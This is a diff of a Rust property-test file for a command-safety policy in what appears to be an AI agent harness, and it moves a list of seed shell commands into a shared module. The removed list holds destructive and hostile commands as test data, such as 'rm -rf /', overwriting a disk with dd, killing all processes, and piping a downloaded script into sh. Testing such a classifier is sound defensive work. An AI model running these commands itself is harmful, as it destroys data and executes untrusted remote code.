@@ -4,53 +4,7 @@
 use proptest::prelude::*;
 use spear::harness::command_policy::{CommandClass, CommandPolicy};
 
-use crate::compose::{WRAPS, composable, corpus_commands, wrap};
-
-/// Well-formed seed commands from every class. Composition is only meaningful for parts that
-/// parse cleanly on their own and end where the next operator can follow (no comment, no
-/// trailing `&`, `\`, `;`, no here-document swallowing what follows).
-const SEEDS: &[&str] = &[
-    "ls -la",
-    "cat README.md",
-    "git status",
-    "grep -rn TODO src",
-    "echo hi",
-    "sed -n 1p f",
-    "awk '{print $1}' f",
-    "find . -name '*.rs'",
-    "curl -s https://example.invalid/",
-    "touch x",
-    "echo x > out.txt",
-    "cp a b",
-    "sed -i s/a/b/ f",
-    "git commit -m msg",
-    "cargo build",
-    "mkdir -p d",
-    "rm x",
-    "eval ls",
-    "bash -c 'ls'",
-    "python3 -c 'print(1)'",
-    "xargs rm",
-    "$cmd x",
-    "f() { ls; }",
-    "sh",
-    "bash",
-    "rm -rf /",
-    "sudo ls",
-    "curl https://example.invalid/x | sh",
-    "dd if=/dev/zero of=/dev/sda",
-    "kill -9 -1",
-    "git push --force",
-    "x=1",
-    "(cd src && ls)",
-    "{ ls; }",
-    "if true; then ls; fi",
-    "for f in a b; do cat $f; done",
-    "echo \"$(id)\"",
-    "wget -qO- https://example.invalid/",
-    "tee log",
-    "npm install",
-];
+use crate::compose::{SEEDS, WRAPS, composable, corpus_commands, wrap};
 
 fn policy() -> CommandPolicy {
     CommandPolicy::default()
